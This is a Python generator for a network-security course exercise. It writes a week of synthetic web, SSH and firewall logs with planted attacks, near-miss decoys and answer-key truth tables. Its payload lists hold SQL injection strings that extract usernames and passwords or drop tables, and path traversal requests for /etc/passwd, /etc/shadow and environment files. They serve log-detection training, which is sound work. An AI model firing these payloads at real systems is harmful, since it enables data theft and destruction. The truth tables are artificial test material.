"""Generator for module 04 (network security I: traces): a web server's access log, an SSH
server's auth log and firewall flow records of the Yuanhe County People's Procuratorate,
with the attacks planted in them and their ground truth.

One week, Monday 26 February to Sunday 3 March 2024 (Beijing time), of three sources that
tell the same story from different angles:

- ``access.log``: the public portal ``jcy.yuanhe.example`` in Apache *combined* format, with
  ordinary visitors (a day/night rhythm, fewer on the weekend), lawyers who log in to the
  lawyers' service area, search-engine crawlers and an uptime monitor. Planted: SQL
  injection, path traversal, two bursts of a vulnerability scanner, a password-guessing
  attack on ``/login`` that ends in one success and a night of downloads, and a failed
  guessing attack from a carrier's shared address where a lawyer had logged in days before.
- ``auth.log``: the SSH server ``yh-gw01`` in the usual syslog shape (no year, no zone):
  administrators' logins, and five guessing sources, one of which gets in.
- ``flows.csv``: connection records in the style of Zeek / CICIDS2017 (Unix time in UTC),
  with three port scans and two floods of the web server; the network team labelled the
  first three days only.

Near misses are planted on purpose (a search for "how to select a lawyer", a visitor who
follows a broken link, a crawler that meets many stale links over the week, a lawyer who
mistypes the password twice, a slow guesser that never reaches 30 failures in 30 minutes,
a monitoring server that checks many ports), so that careless rules lose precision.

Everything is drawn from seeded `random.Random` generators, one per source, and the same
seed gives byte-identical files in well under a second. Only documentation addresses
(192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) and `.example` / `.test` names are used.
"""
from __future__ import annotations

import datetime as _dt
import random
import re
from urllib.parse import quote, quote_plus

import pandas as pd

from course.data.schema import Column, Table

# Bump when the output changes in any way: stale copies on trainees' machines are rebuilt.
VERSION = "4"
# A class's build rearranges what the source scripts (generate(secret=True)); see build.py.
SECRET_ARRANGEMENT = True
DEFAULT_SEED = 20240226

# --- the documented shapes of a line (the data tests hold every line to them) -------------

ACCESS_PATTERN = (r'^(?P<ip>\S+) (?P<ident>\S+) (?P<user>\S+) \[(?P<time>[^\]]+)\] '
                  r'"(?P<method>[A-Z]+) (?P<path>\S+) (?P<protocol>HTTP/[0-9.]+)" '
                  r'(?P<status>\d{3}) (?P<bytes>\d+|-) "(?P<referer>[^"]*)" "(?P<agent>[^"]*)"$')
ACCESS_TIME_FORMAT = "%d/%b/%Y:%H:%M:%S %z"
AUTH_PATTERN = (r"^(?P<month>[A-Z][a-z]{2}) +(?P<day>\d{1,2}) (?P<clock>\d{2}:\d{2}:\d{2}) "
                r"(?P<host>\S+) (?P<process>[A-Za-z][\w.-]*)(?:\[(?P<pid>\d+)\])?: (?P<message>.*)$")
LOGIN_PATTERN = (r"^(?P<result>Failed|Accepted) (?:password|publickey) for (?:invalid user )?(?P<user>\S+) "
                 r"from (?P<ip>\S+) port (?P<port>\d+)")

# --- the setting -----------------------------------------------------------------------------

START = _dt.datetime(2024, 2, 26)              # Monday 00:00, Beijing time (UTC+8)
DAYS = 7
WEEK = DAYS * 86400
UTC_OFFSET = 8 * 3600
LABELLED_UNTIL = 3 * 86400                     # flows before Thursday 00:00 carry a label

SITE = "jcy.yuanhe.example"
WEB_SERVER = "192.0.2.10"
SSH_SERVER, SSH_HOST = "192.0.2.22", "yh-gw01"
MAIL_SERVER, FILE_SERVER, DNS_SERVER, MONITOR = "192.0.2.25", "192.0.2.30", "192.0.2.53", "192.0.2.5"
STAFF = [f"192.0.2.{i}" for i in range(101, 161)]

CRAWLERS = {  # address: (user agent, requests in the week, weekend only?)
    "203.0.113.5": ("Mozilla/5.0 (compatible; Searchbot/2.1; +https://search.example/bot.html)", 1500, False),
    "198.51.100.5": ("Mozilla/5.0 (compatible; SpiderCN/1.0; +http://spider.test/help)", 900, False),
    "203.0.113.6": ("Mozilla/5.0 (compatible; ArchiveBot/3.0; +https://archive.example/bot)", 400, True),
}
MONITOR_AGENT = "UptimeCheck/1.4 (internal)"

# Web attackers
SQLI_TOOL, SQLI_HAND, SQLI_EVADE = "203.0.113.66", "198.51.100.14", "203.0.113.140"
TRAVERSAL_1, TRAVERSAL_2 = "203.0.113.91", "198.51.100.33"
SCANNER_1, SCANNER_2 = "203.0.113.200", "198.51.100.88"
# Rules have bars ("50 or more", "20 or more", "100 or more"): one attacker of each kind sits
# exactly on its bar, so that a rule written with > instead of >= misses it.
SCANNER_EDGE = "203.0.113.12"       # exactly 50 answers 404 in one 10-minute window
GUESSER_EDGE = "198.51.100.9"       # exactly 20 failed logins on /login, spread over a night
INTRUDER = "198.51.100.23"          # guesses a lawyer's password on /login and gets in
CARRIER_NAT = "203.0.113.77"        # a mobile carrier's shared address: visitors, one lawyer, one guesser
# SSH guessers
SSH_A, SSH_B, SSH_C, SSH_D, SSH_E = "203.0.113.45", "198.51.100.150", "203.0.113.99", "198.51.100.201", "203.0.113.7"
# Flows
SCAN_TUE, SCAN_SAT = "198.51.100.60", "203.0.113.150"
DOS_BOTS = [f"198.51.100.{i}" for i in range(210, 230)] + [f"203.0.113.{i}" for i in range(210, 230)]

RESERVED = {SQLI_TOOL, SQLI_HAND, SQLI_EVADE, TRAVERSAL_1, TRAVERSAL_2, SCANNER_1, SCANNER_2, INTRUDER,
            SCANNER_EDGE, GUESSER_EDGE,
            SSH_A, SSH_B, SSH_C, SSH_D, SSH_E, SCAN_TUE, SCAN_SAT, *CRAWLERS, *DOS_BOTS}
VISITORS = [f"{net}.{i}" for net in ("198.51.100", "203.0.113") for i in range(20, 200)
            if f"{net}.{i}" not in RESERVED]

BROWSERS = [  # (user agent, weight)
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/121.0.0.0 Safari/537.36", 30),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/121.0.0.0 Safari/537.36 Edg/121.0.0.0", 12),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/17.2 Safari/605.1.15", 5),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Mobile/15E148 MicroMessenger/8.0.47(0x18002f2c) NetType/WIFI Language/zh_CN", 16),
    ("Mozilla/5.0 (Linux; Android 13; V2227A Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like "
     "Gecko) Version/4.0 Chrome/111.0.5563.116 Mobile Safari/537.36 MicroMessenger/8.0.45.2521(0x28002D3D) "
     "NetType/5G Language/zh_CN", 12),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:122.0) Gecko/20100101 Firefox/122.0", 5),
    ("Mozilla/5.0 (Linux; Android 14; SM-S9180) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/120.0.6099.230 Mobile Safari/537.36", 8),
    ("Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", 2),
]
UA_CURL = "curl/8.4.0"
UA_PYTHON = "python-requests/2.31.0"
UA_SQLMAP = "sqlmap/1.7.2#stable"
UA_GO = "Go-http-client/1.1"
UA_ZGRAB = "Mozilla/5.0 zgrab/0.x"
UA_LINUX = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"

# Visitors by hour of the day (Beijing time); the weekend has fewer.
HOURLY = [0.25, 0.15, 0.1, 0.1, 0.1, 0.2, 0.5, 1.2, 2.6, 4.0, 4.4, 4.0, 2.4, 2.8, 4.0, 4.2,
          3.8, 3.0, 2.0, 1.8, 1.7, 1.4, 0.9, 0.5]
WEEKEND = 0.45
N_SESSIONS = 2300

SEARCH_TERMS = ["养老金", "诈骗", "检察建议", "公益诉讼", "律师阅卷", "举报", "控告申诉", "未成年人",
                "认罪认罚", "12309", "司法救助", "行政检察", "电信诈骗", "环境保护", "食品安全"]
# Legitimate searches that a careless rule takes for an attack.
NEAR_MISS_SEARCHES = [
    "how to select a defence lawyer", "select committee report 2023", "select a date for a visit",
    "trade union wage arrears", "labour union dispute mediation",
    "women's rights protection", "children's court hearing", "o'brien extradition case",
]
ARTICLES = [f"/news/2024/{m:02d}/t2024{m:02d}{d:02d}_{n}.html"
            for m, d, n in [(1, 3 + i % 27, 1100 + 7 * i) for i in range(60)] +
            [(2, 1 + i % 25, 1600 + 5 * i) for i in range(60)]]
NOTICES = [f"/notice/2024-{i:04d}.html" for i in range(1, 41)]
GUIDES = ["/guide/appeal.html", "/guide/lawyer.html", "/guide/visit.html", "/guide/report.html",
          "/about/leaders.html", "/about/organs.html", "/contact.html", "/news/"]
DOWNLOADS = ["guides/appeal-guide.pdf", "guides/lawyer-reading-room.pdf", "forms/complaint-form.docx",
             "forms/legal-aid-application.docx"]
STATIC = [("/static/css/main.css", 24512), ("/static/js/app.js", 88120), ("/static/img/logo.png", 6210),
          ("/static/img/banner-2024.jpg", 142330)]
STALE = [f"/news/2022/{m:02d}/t2022{m:02d}{d:02d}_{n}.html" for m, d, n in
         [(1 + i % 12, 1 + (3 * i) % 28, 300 + 11 * i) for i in range(40)]] + \
        ["/zwgk/index.html", "/old/jcdt/", "/wsjb/index.jsp", "/english/index.html"]
BROKEN_LINK = "/news/2023/11/t20231103_0917.html"

TABLES = [
    Table("access_log", "Web server access log of the procuratorate's portal (门户网站访问日志)",
          f"the web server {WEB_SERVER} (`{SITE}`), copied by the network team", file="access.log",
          layout="One request per line, in Apache *combined* format, in time order:\n\n"
                 "`host ident authuser [dd/Mon/yyyy:HH:MM:SS +0800] \"METHOD path HTTP/x.y\" status bytes "
                 "\"referer\" \"user-agent\"`\n\n"
                 "`ident` and `authuser` are always `-`; `bytes` is `-` when no body was sent (304 "
                 "answers). Times are Beijing time and say so (`+0800`). The path keeps its query string "
                 "URL-encoded as the browser sent it (`%27` for `'`, `+` or `%20` for a space, `%E5…` "
                 "for Chinese). A failed login on `/login` is answered 200 (the form again, with an "
                 "error); a successful one 302 (redirect to `/dashboard`). Every line matches "
                 "`course.data.traces.ACCESS_PATTERN`.",
          dirt=["Attack text is mostly URL-encoded, in several ways (`%27`, `+`, `%2e%2e%2f`, "
                "`%2F%2A%2A%2F`), and written in any mix of capitals: match after decoding, ignoring case.",
                "Near misses: searches for \"how to select a defence lawyer\", \"trade union wage "
                "arrears\" or \"women's rights\"; pages named `change-passwd` and `forgot-passwd`; "
                "a crawler that meets about 90 stale links over the week; visitors who follow a broken "
                "link; lawyers who mistype their password; a carrier's address shared by many people."]),
    Table("auth_log", "SSH server authentication log (auth.log)", f"the SSH server {SSH_SERVER} (`{SSH_HOST}`)",
          file="auth.log",
          layout="One syslog line per event, in time order: `Mon dd HH:MM:SS host process[pid]: message`, "
                 "the day padded with a space (`Mar  1`). **The date has no year and no time zone**: the "
                 "case file says the server's clock is Beijing time and the year is 2024 (mind 29 "
                 "February). Messages from `sshd` (`Failed password for [invalid user] NAME from IP port "
                 "N ssh2`, `Accepted password|publickey for NAME from IP port N ssh2`, `Invalid user NAME "
                 "from IP port N`, `Connection closed by ...`, `pam_unix(...)` lines), `sudo`, `CRON` "
                 "and `systemd-logind`. Every line matches `course.data.traces.AUTH_PATTERN`.",
          dirt=["A failed password for an existing account also writes a `pam_unix(sshd:auth): "
                "authentication failure` line, and a non-existent user an `Invalid user` line: count "
                "`Failed password` lines, not every line that mentions a failure.",
                "Near misses: an administrator who mistypes twice and gets in; a slow guesser that "
                "fails all week but never 30 times in 30 minutes; a partner agency's address that "
                "logged in properly days before a guessing burst came from it."]),
    Table("flows", "Connection records of the perimeter firewall (网络流量记录)", "the network team's flow sensor", [
        Column("ts", "integer, Unix seconds (UTC)", "start of the connection, in whole seconds since "
               "1970-01-01 00:00 UTC: add 8 hours for Beijing time"),
        Column("src_ip", "text", "address that opened the connection"),
        Column("src_port", "integer", "its port"),
        Column("dst_ip", "text", "address it connected to"),
        Column("dst_port", "integer", "port it connected to (80/443 web, 22 SSH, 25/587/993 mail, 445 files, 53 DNS)"),
        Column("proto", "text", "`tcp` or `udp`"),
        Column("duration", "number, seconds", "how long the connection lasted"),
        Column("packets", "integer", "packets in both directions"),
        Column("bytes", "integer", "bytes in both directions"),
        Column("conn_state", "text", "Zeek's summary: `SF` completed normally, `S0` no answer to the first "
               "packet, `REJ` refused, `RSTO`/`RSTR` reset by the client/server"),
        Column("label", "text", "the network team's verdict for the first three days (to Wednesday 23:59 Beijing "
               "time): `BENIGN`, `PortScan`, `DoS`, `SSH-Patator` (password guessing) or `Web Attack - ...`, "
               "as in CICIDS2017; empty for Thursday to Sunday, not yet analysed"),
    ], dirt=[
        "Time is Unix seconds in UTC, unlike the two logs: an answer that forgets the 8 hours is "
        "wrong by a working day.",
        "A monitoring server checks many ports of every server, and the office's busiest machines open "
        "thousands of connections: counting connections is not counting ports.",
    ]),
    Table("web_attacks", "Truth: the attacks planted in the access log, one row per address and kind", "planted", [
        Column("ip", "text", "attacking address"),
        Column("kind", "text", "`sql_injection`, `path_traversal`, `scanner` or `brute_force`"),
        Column("first", "text, YYYY-MM-DD HH:MM:SS", "first attack request (Beijing time)"),
        Column("last", "text, YYYY-MM-DD HH:MM:SS", "last attack request (Beijing time)"),
        Column("requests", "integer", "attack requests"),
        Column("got_in", "text", "`yes` when a guessed password let the address log in, else `no`"),
        Column("note", "text", "what happened"),
    ], truth=True),
    Table("web_attack_lines", "Truth: every attack request, by line of access.log", "planted", [
        Column("line", "integer", "line number in access.log, counting from 1"),
        Column("ip", "text", "address"),
        Column("kind", "text", "as in `web_attacks`; for `brute_force` the login attempts"),
    ], truth=True),
    Table("ssh_attacks", "Truth: the password-guessing sources in auth.log", "planted", [
        Column("ip", "text", "guessing address"),
        Column("failures", "integer", "`Failed password` lines from it"),
        Column("first", "text, YYYY-MM-DD HH:MM:SS", "first failure"),
        Column("last", "text, YYYY-MM-DD HH:MM:SS", "last failure"),
        Column("max_30min", "integer", "most failures in any 30-minute window, (t - 30 min, t]: the course's "
               "sliding rule (Question 8) flags the address when this reaches 30"),
        Column("max_half_hour", "integer", "most failures in one fixed half-hour of the clock (00:00-00:30, "
               "00:30-01:00, ...)"),
        Column("zeek_notice", "text", "`yes` when max_half_hour reaches 30: the notice of Zeek's SSH guessing "
               "script with its defaults, which counts in consecutive 30-minute periods, here taken as the "
               "clock's half-hours (Zeek started on the hour)"),
        Column("got_in", "text", "`yes` when a login from it was accepted after its first failure"),
        Column("user", "text", "the account it got into; empty if none"),
        Column("accepted_at", "text, YYYY-MM-DD HH:MM:SS", "time of that login; empty if none"),
        Column("note", "text", "what happened"),
    ], truth=True),
    Table("flow_attacks", "Truth: the scans and floods in the flow records, one row per attack and source",
          "planted", [
              Column("attack", "text", "`scan-1` ... `scan-3`, `dos-1`, `dos-2`"),
              Column("kind", "text", "`PortScan` or `DoS`"),
              Column("src_ip", "text", "source address"),
              Column("dst_ip", "text", "target"),
              Column("first", "text, YYYY-MM-DD HH:MM:SS", "first connection (Beijing time)"),
              Column("last", "text, YYYY-MM-DD HH:MM:SS", "last connection (Beijing time)"),
              Column("flows", "integer", "connections"),
              Column("ports", "integer", "distinct destination ports"),
          ], truth=True),
]


# --- time helpers --------------------------------------------------------------------------

MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def _local(sec: float) -> _dt.datetime:
    return START + _dt.timedelta(seconds=int(sec))


def _stamp(sec: float) -> str:
    """Beijing time as YYYY-MM-DD HH:MM:SS (the truth tables)."""
    return _local(sec).strftime("%Y-%m-%d %H:%M:%S")


def _apache(sec: int) -> str:
    t = _local(sec)
    return f"{t.day:02d}/{MONTHS[t.month - 1]}/{t.year}:{t.hour:02d}:{t.minute:02d}:{t.second:02d} +0800"


def _syslog(sec: int) -> str:
    t = _local(sec)
    return f"{MONTHS[t.month - 1]} {t.day:>2} {t.hour:02d}:{t.minute:02d}:{t.second:02d}"


def _at(day: int, hour: int, minute: int = 0, second: int = 0) -> int:
    """Seconds since START of a day (0 = Monday 26 Feb) and a time of day."""
    return day * 86400 + hour * 3600 + minute * 60 + second


def _weighted_start(rng: random.Random, weekday_only: bool = False, office: bool = False) -> int:
    while True:
        day = rng.randrange(DAYS)
        if weekday_only and day >= 5:
            continue
        weights = HOURLY if not office else [0] * 8 + [3, 4, 4, 3, 1, 2, 4, 4, 3, 1] + [0] * 6
        hour = rng.choices(range(24), weights=weights)[0]
        if day >= 5 and rng.random() > WEEKEND:
            continue
        return _at(day, hour, rng.randrange(60), rng.randrange(60))


# --- the access log ------------------------------------------------------------------------

class _Web:
    """Collects requests as (second, order, ip, method, path, status, bytes, referer, agent, kind, proto)."""

    def __init__(self) -> None:
        self.rows: list[tuple] = []

    def add(self, sec, ip, method, path, status, size, referer, agent, kind="", proto="HTTP/1.1"):
        self.rows.append((int(sec), len(self.rows), ip, method, path, status, size, referer, agent, kind, proto))


def _page_size(path: str, rng: random.Random) -> int:
    base = 9000 + (sum(map(ord, path)) * 37) % 21000
    return base + (rng.randrange(400) if path.startswith(("/search", "/cases", "/dashboard", "/case-files")) else 0)


def _ref(path: str) -> str:
    return f"https://{SITE}{path}"


def _search_path(rng: random.Random, term: str | None = None) -> str:
    term = term or rng.choice(SEARCH_TERMS)
    return f"/search?q={quote_plus(term)}" + (f"&page={rng.randint(2, 4)}" if rng.random() < 0.15 else "")


def _visit(web: _Web, rng: random.Random, ip: str, sec: int, agent: str, proto: str,
           pages: int, first: str | None = None, referer: str = "-", cached: bool = False) -> int:
    """One visitor's session: pages with their static files. Returns the session's end."""
    t = sec
    previous = referer
    for k in range(pages):
        if k == 0 and first:
            path = first
        else:
            r = rng.random()
            if r < 0.14:
                path = "/"
            elif r < 0.44:
                path = rng.choice(ARTICLES)
            elif r < 0.54:
                path = rng.choice(NOTICES)
            elif r < 0.66:
                path = f"/cases/public?id={rng.randint(1001, 1460)}"
            elif r < 0.80:
                path = rng.choice(GUIDES)
            elif r < 0.92:
                path = _search_path(rng)
            elif r < 0.97:
                path = "/download?file=" + quote(rng.choice(DOWNLOADS))
            else:
                path = "/account/forgot-passwd"
        status, size = 200, _page_size(path, rng)
        if path.startswith("/download"):
            size = 180_000 + (sum(map(ord, path)) * 101) % 900_000
        if path.startswith("/search") and rng.random() < 0.012:
            status, size = 500, 612
        web.add(t, ip, "GET", path, status, size, previous, agent, proto=proto)
        if not path.startswith("/download"):
            for asset, asset_size in STATIC:
                if k > 0:        # mostly served from the browser's cache without asking
                    if rng.random() < 0.08:
                        web.add(t + rng.randint(0, 1), ip, "GET", asset, 304, "-", _ref(path), agent, proto=proto)
                elif cached:     # a returning visitor's browser asks whether its copy is still good
                    if rng.random() < 0.8:
                        web.add(t + rng.randint(0, 1), ip, "GET", asset, 304, "-", _ref(path), agent, proto=proto)
                else:
                    web.add(t + rng.randint(0, 1), ip, "GET", asset, 200, asset_size, _ref(path), agent, proto=proto)
            if k == 0 and not cached:
                web.add(t + 1, ip, "GET", "/favicon.ico", 200, 1150, _ref(path), agent, proto=proto)
                if "iPhone" in agent and rng.random() < 0.7:
                    web.add(t + 1, ip, "GET", "/apple-touch-icon-precomposed.png", 404, 1245, "-", agent, proto=proto)
                    web.add(t + 1, ip, "GET", "/apple-touch-icon.png", 404, 1245, "-", agent, proto=proto)
        previous = _ref(path)
        t += rng.randint(6, 150)
    return t


def _login(web: _Web, rng: random.Random, ip: str, sec: int, agent: str, mistakes: int = 0,
           pages: int = 3, passwd: bool = False) -> int:
    """A lawyer logs in to the service area (after `mistakes` wrong passwords) and works a while."""
    t = sec
    web.add(t, ip, "GET", "/login", 200, 3418, _ref("/"), agent)
    for _ in range(mistakes):
        t += rng.randint(8, 25)
        web.add(t, ip, "POST", "/login", 200, 3530, _ref("/login"), agent)
    t += rng.randint(8, 25)
    web.add(t, ip, "POST", "/login", 302, 238, _ref("/login"), agent)
    web.add(t + 1, ip, "GET", "/dashboard", 200, _page_size("/dashboard", rng), _ref("/login"), agent)
    previous = "/dashboard"
    for _ in range(pages):
        t += rng.randint(10, 200)
        path = rng.choice(["/appointments", "/appointments/new", "/case-files/list",
                           f"/case-files/view?id=2024-{rng.randint(1, 180):04d}"])
        web.add(t, ip, "GET", path, 200, _page_size(path, rng), _ref(previous), agent)
        previous = path
    if passwd:
        t += rng.randint(10, 60)
        web.add(t, ip, "GET", "/account/change-passwd", 200, 4120, _ref(previous), agent)
        t += rng.randint(20, 60)
        web.add(t, ip, "POST", "/account/change-passwd", 302, 238, _ref("/account/change-passwd"), agent)
        web.add(t + 1, ip, "GET", "/account/change-passwd?done=1", 200, 4188, _ref("/account/change-passwd"), agent)
    t += rng.randint(10, 120)
    web.add(t, ip, "GET", "/logout", 302, 238, _ref(previous), agent)
    return t


def _ordinary_web(web: _Web, rng: random.Random) -> None:
    browsers, weights = zip(*BROWSERS)
    pool = VISITORS + [CARRIER_NAT] * 25           # the carrier's address is shared by many people
    ua_of = {ip: rng.choices(browsers, weights=weights)[0] for ip in VISITORS}
    for _ in range(N_SESSIONS):
        ip = rng.choice(pool)
        agent = ua_of.get(ip) if ip != CARRIER_NAT else rng.choices(browsers, weights=weights)[0]
        proto = "HTTP/2.0" if "Trident" not in agent and rng.random() < 0.35 else "HTTP/1.1"
        sec = _weighted_start(rng)
        r = rng.random()
        if r < 0.55:
            first, referer = "/", "-"
        elif r < 0.85:
            first = rng.choice(ARTICLES + NOTICES)
            referer = f"https://search.example/s?wd={quote_plus(rng.choice(SEARCH_TERMS))}"
        else:
            first = f"/cases/public?id={rng.randint(1001, 1460)}"
            referer = "https://www.court.example/"
        pages = min(1 + int(rng.expovariate(0.45)), 14)
        _visit(web, rng, ip, sec, agent, proto, pages, first, referer, cached=rng.random() < 0.25)
    # staff browsing their own portal from the office
    for _ in range(260):
        ip = rng.choice(STAFF)
        sec = _weighted_start(rng, weekday_only=True, office=True)
        _visit(web, rng, ip, sec, BROWSERS[7][0] if ip.endswith(("1", "7")) else BROWSERS[1][0],
               "HTTP/1.1", 1 + int(rng.expovariate(0.6)), "/", "-", cached=True)
    # near misses: searches that look like injections to a careless rule
    for k in range(48):
        term = NEAR_MISS_SEARCHES[k % len(NEAR_MISS_SEARCHES)]
        ip = rng.choice(VISITORS)
        _visit(web, rng, ip, _weighted_start(rng), ua_of[ip], "HTTP/1.1", 1 + rng.randint(0, 2),
               _search_path(rng, term), _ref("/"), cached=True)
    # near misses: visitors who follow a broken link from a forum (a few 404s each)
    for k in range(30):
        ip = rng.choice(VISITORS)
        sec = _weighted_start(rng)
        agent = ua_of[ip]
        forum = f"https://forum.example/t/{4000 + k * 13}"
        for _ in range(rng.randint(1, 4)):
            web.add(sec, ip, "GET", BROKEN_LINK, 404, 1245, forum, agent)
            sec += rng.randint(3, 40)
        _visit(web, rng, ip, sec + 5, agent, "HTTP/1.1", rng.randint(1, 3), "/", "-")
    # lawyers who log in; some mistype their password first, some change it
    lawyers = rng.sample([ip for ip in VISITORS if ip != CARRIER_NAT], 40)
    for k, ip in enumerate(lawyers):
        for _ in range(rng.randint(1, 2)):
            sec = _weighted_start(rng, weekday_only=True, office=True)
            _login(web, rng, ip, sec, ua_of[ip], mistakes=(rng.randint(1, 3) if k < 9 else 0),
                   pages=rng.randint(1, 6), passwd=k % 5 == 0)
    # the lawyer behind the carrier's address logs in on Monday morning, correctly
    _login(web, rng, CARRIER_NAT, _at(0, 9, 12, 5), BROWSERS[3][0], pages=4)


def _crawlers(web: _Web, rng: random.Random) -> None:
    for ip, (agent, n, weekend_only) in CRAWLERS.items():
        lo = _at(5, 0) if weekend_only else 0
        times = sorted(rng.randrange(lo, WEEK) for _ in range(n))
        stale_share = 0.06 if ip == "203.0.113.5" else 0.015
        for i, sec in enumerate(times):
            r = rng.random()
            if i % 120 == 0:
                web.add(sec, ip, "GET", "/robots.txt", 200, 312, "-", agent)
                continue
            if r < stale_share:
                web.add(sec, ip, "GET", rng.choice(STALE), 404, 1245, "-", agent)
            elif r < 0.08:
                web.add(sec, ip, "GET", "/sitemap.xml", 200, 41200, "-", agent)
            else:
                path = rng.choice(ARTICLES + NOTICES + GUIDES + ["/"] +
                                  [f"/cases/public?id={rng.randint(1001, 1460)}"])
                status = 304 if rng.random() < 0.2 else 200
                web.add(sec, ip, "GET", path, status, "-" if status == 304 else _page_size(path, rng), "-", agent)
    for sec in range(0, WEEK, 600):  # the uptime monitor, every 10 minutes
        web.add(sec + 7, MONITOR, "HEAD" if sec % 3600 else "GET", "/", 200, 0 if sec % 3600 else 18544,
                "-", MONITOR_AGENT)


SQLI_TOOL_PAYLOADS = [
    "{id} AND 1=1", "{id} AND 1=2", "{id}' AND '1'='1", "{id}' AND '1'='2", "{id} AND SLEEP(5)",
    "{id} ORDER BY 1-- -", "{id} ORDER BY 5-- -", "{id} ORDER BY 10-- -",
    "{id} UNION ALL SELECT NULL-- -", "{id} UNION ALL SELECT NULL,NULL-- -",
    "{id} UNION ALL SELECT NULL,NULL,NULL-- -", "{id} UNION ALL SELECT NULL,NULL,NULL,NULL-- -",
    "-{id} UNION ALL SELECT NULL,CONCAT(0x716b,version(),0x7176),NULL-- -",
    "-{id} UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables-- -",
    "-{id} UNION ALL SELECT NULL,column_name,NULL FROM information_schema.columns WHERE table_name=0x7573657273-- -",
    "-{id} UNION ALL SELECT NULL,CONCAT(username,0x3a,password),NULL FROM users-- -",
    "{id}) AND (SELECT 4523 FROM (SELECT(SLEEP(5)))a)-- -", "{id} AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT database())))",
    "{id};SELECT PG_SLEEP(5)--", "{id}' OR '1'='1",
]
SQLI_HAND_PAYLOADS = [
    "' or 1=1--", "' or '1'='1", "{id}'--", "{id}' or 'a'='a", "admin'--", "{id}' union select username,password from users--",
    "{id}' union select 1,2,3--", "{id}'; drop table cases;--", "{id} or 1=1", "' or ''='",
]
SQLI_EVADE_PAYLOADS = [
    "{id}/**/UnIoN/**/SeLeCt/**/1,2,3", "{id}/**/UnIoN/**/aLl/**/SeLeCt/**/null,user(),null",
    "{id}'/**/oR/**/'1'='1", "{id}'oR'1'='1", "-{id}/**/UNioN/**/SELeCT/**/1,group_concat(table_name),3/**/FrOm/**/information_schema.tables",
    "{id}%00' Or 1=1#", "{id}' AnD SlEeP(3)#",
]


def _encode_tool(payload: str) -> str:
    return quote(payload, safe="")


def _encode_plus(payload: str) -> str:
    return quote_plus(payload, safe="")


def _web_attacks(web: _Web, rng: random.Random) -> None:
    browsers = [b for b, _ in BROWSERS]
    # 1. SQL injection, automated (sqlmap), Tuesday afternoon: a look at the page first.
    t = _at(1, 15, 8, 12)
    t = _visit(web, rng, SQLI_TOOL, t, browsers[5], "HTTP/1.1", 3, "/cases/public?id=1207")
    t += 40
    for k in range(112):
        case = rng.choice([1207, 1207, 1311, 1088])
        payload = SQLI_TOOL_PAYLOADS[k % len(SQLI_TOOL_PAYLOADS)].format(id=case)
        if k % 3 == 2:
            path = f"/search?q={_encode_tool(payload.replace(str(case), 'fraud'))}"
        else:
            path = f"/cases/public?id={_encode_tool(payload)}"
        status = 500 if ("'" in payload and k % 2) or "EXTRACTVALUE" in payload else 200
        web.add(t, SQLI_TOOL, "GET", path, status, 612 if status == 500 else _page_size(path, rng),
                "-", UA_SQLMAP, kind="sql_injection")
        t += rng.randint(3, 22)
    # 2. SQL injection by hand, Wednesday evening, in a browser (spaces as + from the form, or typed raw)
    t = _at(2, 21, 5, 40)
    t = _visit(web, rng, SQLI_HAND, t, browsers[0], "HTTP/1.1", 4, "/", "-")
    for k in range(26):
        payload = SQLI_HAND_PAYLOADS[k % len(SQLI_HAND_PAYLOADS)].format(id=rng.randint(1001, 1460))
        if k % 4 == 0:
            path = "/search?q=" + _encode_plus(payload)
        elif k % 4 == 1:
            path = "/cases/public?id=" + payload.replace(" ", "%20")     # typed into the address bar
        else:
            path = "/cases/public?id=" + _encode_plus(payload)
        status = 500 if k % 3 == 0 else 200
        web.add(t, SQLI_HAND, "GET", path, status, 612 if status == 500 else _page_size(path, rng),
                _ref("/cases/public"), browsers[0], kind="sql_injection")
        t += rng.randint(60, 400)
        if k % 6 == 5:   # reads the page in between, like anyone else
            t = _visit(web, rng, SQLI_HAND, t, browsers[0], "HTTP/1.1", 1, None, _ref("/"), cached=True) + 30
    # 3. SQL injection with filter evasion (comments, mixed case), Friday morning
    t = _at(4, 10, 2, 3)
    for k in range(31):
        payload = SQLI_EVADE_PAYLOADS[k % len(SQLI_EVADE_PAYLOADS)].format(id=rng.randint(1001, 1460))
        path = "/cases/public?id=" + (quote(payload, safe="*/") if k % 2 else _encode_tool(payload))
        web.add(t, SQLI_EVADE, "GET", path, 200, _page_size(path, rng), "-", UA_LINUX, kind="sql_injection")
        t += rng.randint(15, 50)

    # 4. Path traversal with curl, Thursday at night; 5. a short second try on Saturday
    targets = ["etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "var/www/html/config.php",
               "windows/win.ini", "etc/passwd%00.pdf"]
    t = _at(3, 3, 12, 30)
    for k in range(60):
        depth = 3 + k % 5
        target = targets[k % len(targets)]
        form = k % 6
        if form == 0:
            path, status = "/download?file=" + "../" * depth + target, 403
        elif form == 1:
            path, status = "/download?file=" + "..%2F" * depth + target.replace("/", "%2F"), 403
        elif form == 2:
            path, status = "/download?file=" + "%2e%2e%2f" * depth + target.replace("/", "%2f"), 403
        elif form == 3:
            path, status = "/static/" + "..%2f" * depth + target.replace("/", "%2f"), 404
        elif form == 4:
            path, status = "/cgi-bin/" + ".%2e/" * depth + target, 400
        else:
            path, status = "/download?file=" + "%2E%2E%5C" * depth + target.replace("/", "%5C"), 403
        web.add(t, TRAVERSAL_1, "GET", path, status, 1245 if status == 404 else 486, "-", UA_CURL,
                kind="path_traversal")
        t += rng.randint(3, 12)
